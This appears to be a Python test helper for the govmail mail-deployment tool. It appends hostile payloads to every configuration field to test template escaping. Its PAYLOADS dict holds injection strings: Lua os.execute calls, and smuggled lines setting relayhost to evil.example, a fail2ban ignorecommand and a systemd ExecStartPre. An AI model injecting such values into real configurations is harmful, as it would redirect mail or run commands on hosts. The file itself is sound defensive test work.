"""Hostile values in every text field of a province, and every file the deploy would send.

Shared by tests/unit/test_escaping.py (renders every template with them, everywhere) and
tests/lab/test_hostile_values.py (checks what rendered with each file's own parser on a lab host).

`poisoned(cfg, payload)`: a copy of a validated province in which every string of the data - each
text field of the typed model, the mailboxes' addresses and names - has `payload` appended. It
bypasses validation on purpose: it shows what the templates' escaping does on its own, had a value
slipped past the types. `rendered(cfg, roles)`: {destination: content or REFUSED} of every file the
services of those roles declare, each template rendered separately (a value that a file's syntax
cannot carry refuses that file: the deploy stops before touching a host).
"""

from __future__ import annotations

import copy
import dataclasses
import importlib
from pathlib import Path

from pydantic import BaseModel

from govmail.data.text import UnsafeValue
from govmail.service import Context

ROOT = Path(__file__).resolve().parents[1]
MARKER = "/tmp/govmail-pwned"
PAYLOADS = {
    # Syntax of every file at once, no line break: quotes, braces, comment and statement ends, Lua code.
    "quotes-and-code": f'x"; os.execute("touch {MARKER}") --]] }} ; # \' ` {{evil}} [evil] <evil> & | * ,other@gmail.com',
    # One word (no space, comma or line break) with the quotes and comment marks of every syntax.
    "one-word": "w\"';#--]]}{x}<y>&|*`",
    # Variables and escapes: Postfix $name, UCL ${VAR}, Dovecot %{var}, systemd %n, fail2ban %(x)s, backslash.
    "variables": r"y $relayhost ${CONFDIR} %{pwned} %n %(action_)s \\ \"",
    # A new line with a setting after it, for every syntax.
    "line-break": f'z\nrelayhost = [evil.example]:25\nignorecommand = touch {MARKER}\n[evil]\nExecStartPre=/bin/touch {MARKER}\nos.execute("touch {MARKER}")\n',
}
REFUSED = "REFUSED"


def _is_choice(annotation) -> bool:
    """A Literal (or a list or Optional of one): a choice among govmail's own words, not text."""
    import typing

    if typing.get_origin(annotation) is typing.Literal:
        return True
    return any(_is_choice(a) for a in typing.get_args(annotation))


def _poison_model(m: BaseModel, payload: str) -> BaseModel:
    update = {}
    for name, field in type(m).model_fields.items():
        v = getattr(m, name)
        if _is_choice(field.annotation):
            continue
        if isinstance(v, str):
            update[name] = v + payload
        elif isinstance(v, BaseModel):
            update[name] = _poison_model(v, payload)
        elif isinstance(v, list):
            update[name] = [x + payload if isinstance(x, str) else _poison_model(x, payload)
                            if isinstance(x, BaseModel) else x for x in v]
    return m.model_copy(update=update)


def poisoned(cfg, payload: str):
    out = copy.copy(cfg)
    out.model = _poison_model(cfg.model, payload)
    out.accounts = [dataclasses.replace(a, address=a.address + payload, name=a.name + payload) for a in cfg.accounts]
    return out


def services_of(roles) -> list[str]:
    from govmail.services import for_roles

    return for_roles(roles)


def rendered(cfg, roles=("mail",), secrets_dir=None, trusted=("10.77.0.1",)) -> tuple[dict, dict]:
    """({dest: bytes or REFUSED}, {service name: Service, or None when the service refused}) for the
    services of `roles`. A file of a refused service is absent: look it up with `.get(dest, REFUSED)`."""
    import govmail.render

    files: dict[str, object] = {}
    declared = {}
    real = govmail.render.render
    refused: dict[str, str] = {}

    def one(template, c, **extra):
        try:
            return real(template, c, **extra)
        except UnsafeValue as e:
            refused[template] = str(e)
            return REFUSED + " " + template

    from govmail.secrets import province_secrets

    secrets = province_secrets(cfg, secrets_dir) if secrets_dir else {}
    ctx = Context(cfg, cfg.mail_host, tuple(roles), {}, trusted_clients=tuple(trusted), secrets=secrets)
    for name in services_of(roles):
        mod = importlib.import_module(f"govmail.services.{name}")
        had = getattr(mod, "render", None)
        if had is not None:
            mod.render = one
        try:
            svc = mod.service(ctx)
        except UnsafeValue as e:  # refused by the service itself (a value it writes into a command or key file)
            refused[name] = str(e)
            declared[name] = None
            continue
        finally:
            if had is not None:
                mod.render = had
        if svc is None:
            continue
        declared[svc.name] = svc
        for f in svc.files:
            text = f.content.decode(errors="replace")
            files[f.dest] = REFUSED if text.startswith(REFUSED) else f.content
    return files, declared
